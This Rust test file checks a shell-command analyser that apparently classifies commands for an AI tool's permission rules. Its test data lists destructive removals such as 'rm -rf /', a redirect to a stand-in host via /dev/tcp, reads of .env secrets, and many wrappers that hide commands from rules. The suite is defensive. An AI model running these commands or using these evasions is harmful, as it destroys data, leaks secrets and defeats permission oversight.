//! What is read-only, what is read, and what is never let through.

use std::path::Path;

use loci_core::tool::Cover;
use proptest::prelude::*;

use crate::{ShellContext, ShellPath, ShellReading, analyse, top_level_parts};

fn reading(command: &str) -> ShellReading {
    analyse(command, &ShellContext { cwd: Path::new("/w"), home: Path::new("/h") })
}

/// Shows paths from where the shell stands.
fn below(paths: &[ShellPath]) -> Vec<String> {
    let show = |path: &ShellPath| {
        let text = path.path.to_string_lossy();
        text.strip_prefix("/w/").unwrap_or(&text).to_owned()
    };
    paths.iter().map(show).collect()
}

/// Checks that a command is read-only and reads exactly the paths given.
#[track_caller]
fn check_reads(command: &str, paths: &[&str]) {
    let reading = reading(command);
    assert!(reading.is_read_only(), "{command}: {reading:#?}");
    assert_eq!(below(&reading.reads), paths, "{command}");
}

#[test]
fn commands_that_only_read() {
    let cases: &[(&str, &[&str])] = &[
        ("md5sum a.txt", &["a.txt"]),
        ("nproc", &[]),
        ("head -n 1 a.txt", &["a.txt"]),
        ("head -1 a.txt", &["a.txt"]),
        ("head -n1 -- -a.txt", &["-a.txt"]),
        ("grep -r x ..", &[".."]),
        ("grep -rn 'fn main' --include='*.rs'", &[".", "*.rs"]),
        ("grep -e a -e b c d", &["c", "d"]),
        ("grep -f patterns c", &["c", "patterns"]),
        ("grep -A3 x f", &["f"]),
        ("echo 'a > b'", &[]),
        ("echo 'a\nb'", &[]),
        ("echo \"a > b; (c)\"", &[]),
        ("ls > /dev/null", &["."]),
        ("ls -la 2>&1 | head -5", &["."]),
        ("ls src 2>/dev/null; pwd", &["src"]),
        ("ls 2>/dev/null&&pwd", &["."]),
        ("cat a b && wc -l c || true", &["a", "b", "c"]),
        ("cat -", &[]),
        ("ls;", &["."]),
        ("'ls' \"-l\" s'r'c", &["src"]),
        ("sort -t, -k2 a.csv | wc -l", &["a.csv"]),
        ("ls |& cat; ls >>/dev/null; ls >&2 1>/dev/null", &[".", ".", "."]),
        ("LANG=C LC_ALL=C ls x", &["x"]),
        ("! ls", &["."]),
        ("if true; then ls; fi", &["."]),
        ("while false; do cat a; done", &["a"]),
        ("for f in a b; do echo $f; done", &[]),
        ("cd src && ls", &["src", "src/."]),
        ("cd src && cat ../a", &["src", "src/../a"]),
        ("cd src; cat a", &["src", "src/a", "a"]),
        ("ls # comment", &["."]),
        ("ls\tx", &["x"]),
        ("ls \\\n  x", &["x"]),
        ("cat é", &["é"]),
        ("cat a\\ b \\*", &["a b", "*"]),
        ("cat < a", &["a"]),
        ("cat <<'EOF'\n$(x) `y`\nEOF", &[]),
        ("cat <<< word", &[]),
        ("cat *.txt", &["*.txt"]),
        ("echo $HOME \"$x\" $((1+1))", &[]),
        ("echo \"\\$(touch z)\" 'a > b'", &[]),
        ("test -f a && [ -d b ]", &["a", "b"]),
        ("[[ -f a && ! -d b ]]", &["a", "b"]),
        ("printf '%s\\n' x", &[]),
        ("sed -n 1,5p a", &["a"]),
        ("sed 's/a/b/g' f", &["f"]),
        ("jq -r .name package.json", &["package.json"]),
        ("rg -n x src", &["src"]),
        ("rg x", &["."]),
        ("tree -L 2", &["."]),
        ("ps aux | grep x", &[]),
        ("docker ps -a", &[]),
        ("node --version", &[]),
        ("git tag", &["."]),
        ("git remote -v", &["."]),
        ("git stash list", &["."]),
        ("git config --get user.name", &[".", "user.name"]),
        ("git worktree list", &["."]),
        ("git grep -n x", &[".", "x"]),
        ("ls\n\npwd", &["."]),
        ("date +%Y-%m-%d", &[]),
        ("date -u -r a", &["a"]),
        ("stat --format=%s a", &["a"]),
        ("realpath --relative-to b a", &["a", "b"]),
        ("find . -name '*.rs' -type f -not -path './t/*' -newer x", &[".", "x"]),
        ("find src -maxdepth 2 -size -10k", &["src"]),
        ("git status", &["."]),
        ("git status -sb", &["."]),
        ("git log --oneline -5", &["."]),
        ("git diff HEAD -- src/a.rs", &[".", "HEAD", "src/a.rs"]),
        ("git show HEAD:.env", &[".", "HEAD:.env", ".env"]),
        ("git branch -a", &["."]),
        ("git branch --merged main", &[".", "main"]),
        ("git branch --list 'x*'", &[".", "x*"]),
        ("git rev-parse --abbrev-ref HEAD", &[".", "HEAD"]),
        ("tr a-z A-Z", &[]),
        ("which cargo", &[]),
        ("diff -u a b", &["a", "b"]),
    ];
    for (command, paths) in cases {
        check_reads(command, paths);
    }
}

#[test]
fn commands_that_may_write_are_never_read_only() {
    for command in [
        // Cases of the permission corpus that must ask or deny.
        "git grep --open-files-in-pager=./bin/tool content",
        "chroot . ls",
        "git add a.txt",
        "cat $HOME/notes.txt",
        "ls <> a.txt",
        "(( $(touch z) ))",
        "echo $[ x='a[$(touch z)]', x ]",
        "touch /outside/n",
        "npm install",
        "PATH=./bin npm run build",
        "rmdir ~",
        "xargs touch",
        "rm -rf /w/*",
        "timeout 3 rmdir ~",
        "ls > x",
        "mkdir d",
        "to\\\nuch z",
        "tar cf x.tar .env",
        "rmdir {/,/usr}",
        "echo touch z | sh",
        "bash -c \"touch z\" --version",
        "echo \"unterminated",
        "echo hi | tee .bashrc",
        // Flags that write, run or follow.
        "sort -o out a",
        "sort -oout a",
        "sort --output=out a",
        "sort --outp out a",
        "sort --compress-program=./x a",
        "sort -T /tmp a",
        "sort --files0-from=x",
        "uniq a b",
        "date -s 12:00",
        "date 010203042026",
        "file -m x a",
        "file -C -m x",
        "md5sum -c sums",
        "grep -R x .",
        "grep -rR x .",
        "grep -e -R x",
        "wc --files0-from=x",
        "tail -f log",
        "du -L .",
        "diff -r a b",
        "find . -delete",
        "find . -exec rm x",
        "find . -fprint x",
        "find -L . -name x",
        "find . -name",
        "find . -ok rm x",
        "find '(' -delete",
        "git -c core.pager=x log",
        "git -C x status",
        "git --exec-path=x status",
        "git diff --output=x",
        "git diff --ext-diff",
        "git diff --no-index a b",
        "git log --textconv",
        "git log -Ofile",
        "git log -pOfile",
        "git branch new",
        "git branch -D old",
        "git branch -a new",
        "git branch -m a b",
        "git branch --merged main new",
        "git push",
        "git",
        "git tag v1",
        "git remote add x y",
        "git stash",
        "git config user.name x",
        "git reflog expire --all",
        "git worktree add x",
        "cd src && git status",
        "sort *",
        "find *",
        "head -n * a",
        "sed -i s/a/b/ f",
        "sed 's/a/b/w out' f",
        "sed 's/a/b/e' f",
        "sed '1e touch z' f",
        "sed -n '/x/w out' f",
        "sed -f s f",
        "jq -f x a",
        "jq env",
        "jq '$ENV.PATH'",
        "awk '{print}' a",
        "printf -v x y",
        "test -v 'a[$(touch z)]'",
        "[ -v x ]",
        "ps auxe",
        "man -P x ls",
        "rg --pre x y",
        "fd -x rm",
        "tree -o f",
        "hostname new",
        "uniq a",
        "ping x",
        "curl x",
        "docker -H x ps",
        "history -c",
        // Forms that are never free.
        "echo ${x}",
        "echo ${x@P}",
        "echo ${!x}",
        "echo ${x:=y}",
        "echo $'a'",
        "ls {a,b}",
        "cat $x",
        "ls $(echo a)",
        "cat <(ls)",
        "echo `ls`",
        "cat <<EOF\n$(touch z)\nEOF",
        "cat <<EOF\nplain\nEOF",
        "for f in $(ls); do echo $f; done",
        "case x in x) ls;; esac",
        "f() { ls; }",
        "[[ $x -eq 1 ]]",
        "(( 1 ))",
        "X=1",
        "PATH=. ls",
        "LANG=$(x) ls",
        "time ls",
        "coproc ls",
        "ls > a",
        "ls &> a",
        "ls >| a",
        "ls 3<> a",
        "ls > /dev/tcp/x/1",
        "$x",
        "\"$x\" a",
        "l* a",
        // Outside the grammar.
        "",
        "   ",
        ";",
        "ls &&",
        "| ls",
        "ls & ",
        "ls >out",
        "ls >/dev/nullx",
        "ls >/dev/tcp/evil/80",
        "A=b ls",
        "{ ls; }",
        "(ls)",
        "/bin/ls",
        "./ls",
        "echo \"$(x)\"",
        "echo \"`x`\"",
        "ls\rx",
        "ls\u{a0}x",
        "echo 'a\0b'",
        "eval ls",
        ". x",
        "env ls",
        "command ls",
    ] {
        assert!(!reading(command).is_read_only(), "{command:?} came out read-only");
    }
    assert!(!reading(&format!("echo {}", "a".repeat(10_000))).is_read_only());
    assert!(reading(&format!("echo {}", "a".repeat(9_000))).is_read_only());
}

#[test]
fn commands_are_shown_as_rules_see_them() {
    for (command, texts) in [
        ("'touch' z; to\"uc\"h 'a b'", &["touch z", "touch 'a b'"][..]),
        ("npm run build 2>&1 | tee log", &["npm run build", "tee log"]),
        ("A=1 'rm' x", &["A=1 rm x"]),
        ("(ls)", &["ls"]),
        ("echo $(git push) `curl x`", &["git push", "curl x", "echo $(git push) `curl x`"]),
        ("if true; then rm x; fi", &["true", "rm x"]),
        ("f() { rm x; }; f", &["{", "rm x", "f"]),
        ("case $x in a) rm y;; esac", &["{", "rm y"]),
    ] {
        let reading = reading(command);
        let shown: Vec<&str> = reading.commands.iter().map(|command| command.text.as_str()).collect();
        assert_eq!(shown, texts, "{command}");
        assert_eq!(reading.unknown, [""; 0], "{command}");
    }
}

/// A restricting rule for `touch` sees it in all of these (S-5, S-12, S-17).
#[test]
fn command_is_found_in_every_nesting() {
    for command in [
        "touch z",
        "ls && touch z",
        "ls | touch z",
        "ls & touch z",
        "ls\ntouch z",
        "(touch z)",
        "{ touch z; }",
        "if touch z; then ls; fi",
        "while touch z; do ls; done",
        "for x in a; do touch z; done",
        "case a in a) touch z;; esac",
        "f() { touch z; }; f",
        "! touch z",
        "time touch z",
        "echo $(touch z)",
        "echo \"$(touch z)\"",
        "echo `touch z`",
        "cat <(touch z)",
        "x=$(touch z)",
        "echo ${x:-$(touch z)}",
        "echo $(( $(touch z) ))",
        "(( $(touch z) ))",
        "[[ -f $(touch z) ]]",
        "ls > $(touch z)",
        "cat <<EOF\n$(touch z)\nEOF",
        "cat <<< $(touch z)",
        "A=1 touch z",
        "PATH=. touch z",
        "> out touch z",
        "/usr/bin/touch z",
        "./touch z",
        "'touch' z",
        "t'ou'ch z",
        "\\touch z",
        "to\\\nuch z",
        "$'touch' z",
        "$'\\x74ouch' z",
        "{touch,z}",
        "timeout 5 touch z",
        "timeout -k 1 5 touch z",
        "nice -n 5 touch z",
        "nohup touch z",
        "stdbuf -o0 touch z",
        "command touch z",
        "builtin touch z",
        "exec touch z",
        "env touch z",
        "env -i A=1 touch z",
        "env -u X touch z",
        "sudo touch z",
        "sudo -u root touch z",
        "sudo -n -- touch z",
        "doas touch z",
        "xargs touch",
        "xargs -n1 -I{} touch {}",
        "find . -exec touch {} \\;",
        "find . -execdir touch {} +",
        "bash -c 'touch z'",
        "bash -lc 'touch z'",
        "sh -c \"ls; touch z\"",
        "sudo bash -c 'touch z'",
        "bash -c \"bash -c 'touch z'\"",
        "eval touch z",
        "eval 'touch z'",
        "trap 'touch z' EXIT",
        "bash <<EOF\ntouch z\nEOF",
        "bash <<'EOF'\ntouch z\nEOF",
        "bash <<< 'touch z'",
        "watch touch z",
        "setsid touch z",
        "strace -f touch z",
        "flock x touch z",
        "chroot . touch z",
        "busybox touch z",
        "ssh host touch z",
        "ssh host 'touch z'",
        "docker exec c touch z",
        "docker run i sh -c 'touch z'",
        "npx touch z",
        "su -c 'touch z'",
        "parallel touch z",
        "python3 -c \"import os; os.system('touch z')\"",
        "perl -e 'system(\"touch z\")'",
        "awk 'BEGIN { system(\"touch z\") }'",
        "git -c alias.x='!touch z' x",
        "alias x='touch z'",
        "env - touch z",
        "sudo FOO=1 touch z",
        "git config alias.x '!touch z'",
        "at now <<< 'touch z'",
        "mapfile -C 'touch z' x",
        // Not understood, and seen all the same.
        "coproc touch z",
        "echo \"unterminated; touch z",
        "a=(x); touch z",
        "echo $[ $(touch z) ]",
    ] {
        let readings: Vec<String> =
            reading(command).commands.into_iter().flat_map(|command| command.readings).collect();
        let is_seen = readings.iter().any(|text| text == "touch" || text.starts_with("touch "));
        assert!(is_seen, "{command}: {readings:?}");
    }
}

#[test]
fn paths_are_reported_from_where_the_shell_stands() {
    let check = |command: &str, reads: &[&str], writes: &[&str]| {
        let reading = reading(command);
        assert_eq!(
            (below(&reading.reads), below(&reading.writes)),
            (reads_of(reads), reads_of(writes)),
            "{command}"
        );
    };
    check("echo x > a", &[], &["a"]);
    check("cat a >> /etc/b", &["a"], &["/etc/b"]);
    check("tee a b", &[], &["a", "b"]);
    check("cp a b", &["a"], &["b/a", "b"]);
    check("mv x/a b", &["x/a"], &["x/a", "b/a", "b"]);
    check("cp -t d a", &["a"], &["d/a", "d"]);
    check("rm -rf a", &[], &["a"]);
    check("sudo rm a", &[], &["a"]);
    check("bash -c 'cat .env > x'", &[".env"], &["x"]);
    check("(cd sub && touch a)", &["sub"], &["sub/a"]);
    check("cd sub && touch a", &["sub"], &["sub/a"]);
    check("sed -i s/a/b/ f", &["f"], &["f"]);
    check("dd if=a of=b", &["a"], &["b"]);
    check("tar cf x.tar .env", &["x.tar", ".env"], &["x.tar"]);
    check("source x", &["x"], &[]);
    check("xxd .env", &[".env"], &[]);
    check("cat {a,b}", &["a", "b"], &[]);
    check("cat ~/x $HOME/y", &["/h/x", "/h/y"], &[]);
    check("find a -delete", &["a"], &["a"]);
    check("curl -o out -d @in http://x", &["in"], &["out"]);
}

fn reads_of(paths: &[&str]) -> Vec<String> {
    paths.iter().map(|path| (*path).to_owned()).collect()
}

#[test]
fn removals_are_told_by_their_targets() {
    for (command, targets) in [
        ("rm -rf /", &["/"][..]),
        ("rm -rf /*", &["/"]),
        ("rm -rf *", &["/w"]),
        ("rm -rf ./*", &["/w"]),
        ("rm -rf build/*", &["/w/build"]),
        ("rm -rf a*", &["/w/a*"]),
        ("rmdir ~", &["/h"]),
        ("rmdir {/,/usr}", &["/", "/usr"]),
        ("rm -rf \"$HOME\"", &["/h"]),
        ("rm -rf \"$PWD\"", &["/w"]),
        ("rm -rf $X/y", &["?"]),
        ("cd / && rm -rf *", &["/"]),
        ("bash -c 'rm -rf ~'", &["/h"]),
        ("sudo rm -rf /usr", &["/usr"]),
        ("echo $(rm -rf /)", &["/"]),
        ("find / -name x -delete", &["/"]),
        ("find build -exec rm {} +", &["/w/build"]),
        ("xargs rm -rf", &["?"]),
        ("xargs rm", &[]),
        ("HOME=/ rm -rf ~", &["?"]),
        ("echo 'rm -rf /'", &[]),
    ] {
        let reading = reading(command);
        let shown: Vec<String> = reading
            .removals
            .iter()
            .map(|it| it.target.as_ref().map_or("?".to_owned(), |path| path.path.display().to_string()))
            .collect();
        assert_eq!(shown, targets, "{command}");
    }
}

/// Shows what a rule must match.
fn cover(command: &str) -> String {
    match reading(command).commands.pop().unwrap().cover {
        Cover::Pattern(text) => text,
        Cover::Spelled { text, n_words } => format!("{n_words}: {text}"),
        Cover::Exact(text) => format!("= {text}"),
        Cover::Never => "never".to_owned(),
    }
}

#[test]
fn allowing_rules_see_through_little() {
    for (command, expected) in [
        ("npm run build", "npm run build"),
        ("NODE_ENV=x npm run build", "npm run build"),
        ("FOO=x npm run build", "2: FOO=x npm run build"),
        ("timeout 5 npm run build", "npm run build"),
        ("timeout --what 5 npm run", "= timeout --what 5 npm run"),
        ("command -v npm", "1: command -v npm"),
        ("nice -n 5 nohup npm run", "npm run"),
        ("xargs npm run", "npm run"),
        ("xargs -n1 npm run", "3: xargs -n1 npm run"),
        ("env npm run", "2: env npm run"),
        ("env A=b ls", "1: env A=b ls"),
        ("env LD_PRELOAD=x ls", "3: env LD_PRELOAD=x ls"),
        ("env -S 'npm run'", "= env -S 'npm run'"),
        ("awk '{print}'", "1: awk '{print}'"),
        ("awk '{print | \"x\"}'", "= awk '{print | \"x\"}'"),
        ("bash -c 'npm run'", "1: bash -c 'npm run'"),
        ("watch npm run", "= watch npm run"),
        ("find . -delete", "= find . -delete"),
        ("find . -name x", "find . -name x"),
        ("git push", "git push"),
        ("git -c a=b push", "3: git -c a=b push"),
        ("$x run", "never"),
        ("f() { x; }", "never"),
        ("export A=b", "1: export A=b"),
    ] {
        assert_eq!(cover(command), expected, "{command}");
    }
}

#[test]
fn plain_edits_are_known() {
    for (command, expected) in [
        ("touch a", true),
        ("mkdir -p a/b", true),
        ("rm -rf a", true),
        ("mv a b", true),
        ("cp a b", true),
        ("sed -i s/a/b/ f", true),
        ("nice touch a", true),
        ("LANG=C touch a", true),
        ("cp -r a b", false),
        ("rm -rf *", false),
        ("touch $x", false),
        ("touch a/../b", false),
        ("touch ../b", true),
        ("sed -i 's/a/b/e' f", false),
        ("FOO=1 touch a", false),
        ("cd a && touch b", false),
        ("(touch a)", false),
        ("tee a", false),
        ("chmod +x a", false),
        ("ln -s a b", false),
        ("touch", false),
        ("touch {a,b}", false),
    ] {
        assert_eq!(
            reading(command).commands.iter().all(|it| it.is_edit || it.is_read_only),
            expected,
            "{command}"
        );
    }
}

/// Everyday lines on which both parsers must agree, or nobody could work.
#[test]
fn the_second_parser_agrees_on_everyday_lines() {
    for command in [
        "git add -A && git commit -m \"$(cat <<'EOF'\nsubject\n\nbody with 'quotes'\nEOF\n)\"",
        "cargo test -p x -- --nocapture 2>&1 | tail -20",
        "cd /a/b && npm run build -- --watch=false > out.log 2>&1 &",
        "for f in *.rs; do wc -l \"$f\"; done",
        "find . -name '*.ts' -not -path './node_modules/*' | xargs grep -l foo",
        "grep -rn \"a|b\" --include='*.rs' src/ | head -5 || true",
        "docker run --rm -v \"$PWD\":/x -e A=b img sh -c 'ls; pwd'",
        "curl -s 'http://x/?a=1&b=2' -H 'A: b' | jq '.[] | .name'",
        "A=1 B=\"x y\" make -j4 all",
        "if [ -f x ]; then cat x; else echo no; fi",
        "while read -r l; do echo \"$l\"; done < in.txt",
        "python3 - <<'PY'\nprint(1)\nPY",
        "ls -la 2>/dev/null -h; echo $?",
        "export PATH=\"$HOME/bin:$PATH\"",
        "test -n \"$X\" && echo yes",
        "echo ${HOME} ${x:-y} ${#x} ${x%.rs}",
        "diff <(sort a) <(sort b)",
        "sed -i.bak 's/a/b/g' f",
        "tar czf x.tgz --exclude=.git .",
        "sleep 5 && kill $!",
        "echo a{1..3}b {x,y}",
        "npx tsc --noEmit; npx eslint 'src/**/*.ts'",
        "git log --pretty=format:'%h %s' HEAD~3..HEAD -- a",
        "cat > f.txt << 'EOF'\nhi\nEOF",
        "cat << EOF > f\nhi $x\nEOF",
        "! grep x f",
        "{ ls; pwd; } | cat",
        "f() { ls; }; f",
        "case $x in a|b) ls;; *) pwd;; esac",
    ] {
        assert_eq!(reading(command).unknown, [""; 0], "{command}");
    }
}

#[test]
fn parts_respect_quotes_and_brackets() {
    for (command, parts) in [
        ("a && b | c; d", &["a", "b", "c", "d"][..]),
        ("echo 'a;b' \"c|d\" \\; e", &["echo 'a;b' \"c|d\" \\; e"]),
        ("(a; b) || c", &["(a; b)", "c"]),
        ("x $(a; b) 2>&1 &> f\ny", &["x $(a; b) 2>&1 &> f", "y"]),
        ("", &[]),
    ] {
        assert_eq!(top_level_parts(command), parts, "{command}");
    }
}

proptest! {
    #[test]
    fn any_text_is_analysed_without_panic(command in any::<String>()) {
        reading(&command);
        top_level_parts(&command);
    }

    #[test]
    fn generated_shell_lines_are_analysed_without_panic(
        command in "(ls|cat|touch|rm|if|then|fi|for|do|done|case|esac|in|;|;;|&&|&|\\||\\(|\\)|\\{|\\}|'|\"|`|\\$|\\$\\(|<|>|<<EOF|EOF|\n| |a|=|\\*|~|!|#|\\[|\\]|\\\\|-c|bash|xargs|sudo|\\{a,b\\}){1,30}"
    ) {
        reading(&command);
    }

    /// What is not understood is never free and never covered by a pattern (S-3; P-3 of `docs/design/permissions.md`).
    #[test]
    fn lines_not_understood_are_never_read_only(
        command in "(ls|cat|echo|find|git log|grep -r|;|&&|\\||'|\"|2>&1|>/dev/null| |a|\\.|-n|[$`<(){}\\[\\]\\\\]){1,12}"
    ) {
        let reading = reading(&command);
        if !reading.unknown.is_empty() {
            prop_assert!(!reading.is_read_only(), "{command:?}");
        }
        let exposed: String = command.split('\'').step_by(2).collect();
        if exposed.contains("$(") || exposed.contains('`') {
            let is_escaped = exposed.contains('\\') || command.contains('\'') || exposed.contains('"');
            prop_assert!(is_escaped || !reading.is_read_only(), "{command:?}");
        }
    }

    /// Wrapping and quoting never hide a command from a rule that forbids it (S-5).
    #[test]
    fn wrapped_commands_are_still_found(
        wrappers in prop::collection::vec(prop::sample::select(vec![
            "sudo ", "env A=1 ", "timeout 5 ", "nice ", "xargs ", "( ", "{ ", "! ", "A=1 ", "bash -c '", "echo $(", "ls; ", "/usr/bin/env ",
        ]), 0..5)
    ) {
        let mut command = "touch z".to_owned();
        for wrapper in wrappers {
            command = match wrapper {
                "( " => format!("( {command} )"),
                "{ " => format!("{{ {command}; }}"),
                "echo $(" => format!("echo $( {command} )"),
                "bash -c '" if !command.contains('\'') => format!("bash -c '{command}'"),
                "bash -c '" => command,
                "! " | "ls; " => format!("{wrapper}{command}"),
                _ if command.starts_with(['(', '{', '!']) || command.starts_with("ls;") || command.starts_with("A=") => command,
                _ => format!("{wrapper}{command}"),
            };
        }
        let readings: Vec<String> =
            reading(&command).commands.into_iter().flat_map(|command| command.readings).collect();
        prop_assert!(readings.iter().any(|text| text.starts_with("touch z")), "{command}: {readings:?}");
    }

    #[test]
    fn every_plain_operand_of_cat_is_reported(names in prop::collection::vec("[a-z._][a-z./_]{0,8}", 1..5)) {
        let command = format!("cat {}", names.join(" "));
        prop_assert_eq!(below(&reading(&command).reads), names);
    }
}

/// The scanner of the second parser looked characters up in a table of 256.
#[test]
fn unusual_characters_are_analysed_without_panic() {
    for c in ['\u{10ffff}', '\u{fffff}', '日', 'é'] {
        for line in [
            format!("echo {{{c}"),
            format!("echo {{{c}..3}}"),
            format!("echo {{1..{c}}}"),
            format!("cat <<{c}\nx\n{c}"),
        ] {
            reading(&line);
        }
    }
    assert!(reading("cat 日本.txt").is_read_only());
}

/// Guesses at where a command begins, one in the other, are bounded: this ends, and is not understood.
#[test]
fn nested_guesses_at_commands_are_bounded() {
    for piece in ["$X eval ", "$X bash -c ", "xargs -I$X bash -c ", "$X eval eval "] {
        let line = format!("{}touch z", piece.repeat(60));
        let reading = analyse(&line, &ShellContext { cwd: Path::new("/p"), home: Path::new("/home/dev") });
        assert!(!reading.is_read_only(), "{piece}");
    }
    let nested = (0..6).fold("touch z".to_owned(), |code, _| format!("$X eval $X eval {code}"));
    assert!(
        !analyse(&nested, &ShellContext { cwd: Path::new("/p"), home: Path::new("/home/dev") })
            .is_read_only()
    );
}
